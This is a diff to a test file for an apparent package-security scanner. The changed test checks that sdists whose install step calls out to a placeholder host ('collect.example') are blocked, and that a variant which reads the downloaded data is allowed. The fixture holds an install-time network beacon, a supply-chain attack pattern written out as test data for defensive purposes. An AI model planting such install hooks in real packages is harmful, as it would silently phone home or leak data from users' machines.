@@ -703,8 +703,16 @@ def test_an_empty_package_whose_install_uses_the_network_is_a_beacon() -> None:
     report = scan_archive(_sdist(beacon), "demo-1.0.tar.gz")
     assert {"install-network", "placeholder"} <= {f.rule for f in report.findings}
     assert not POLICY.decide(report).allowed
-    with_code = scan_archive(_sdist(beacon, "def f():\n    return 1\n"), "demo-1.0.tar.gz")
+    # With code of its own, an install that downloads what it reads is not a beacon (one
+    # that calls out and ignores the answer is, since rules 8).
+    download = beacon.replace(
+        "urllib.request.urlopen('https://collect.example/')",
+        "data = urllib.request.urlopen('https://collect.example/').read()",
+    )
+    with_code = scan_archive(_sdist(download, "def f():\n    return 1\n"), "demo-1.0.tar.gz")
     assert POLICY.decide(with_code).allowed
+    ignored = scan_archive(_sdist(beacon, "def f():\n    return 1\n"), "demo-1.0.tar.gz")
+    assert not POLICY.decide(ignored).allowed
 
 
 def test_pyarmor_packed_code_that_runs_on_import_is_held() -> None:
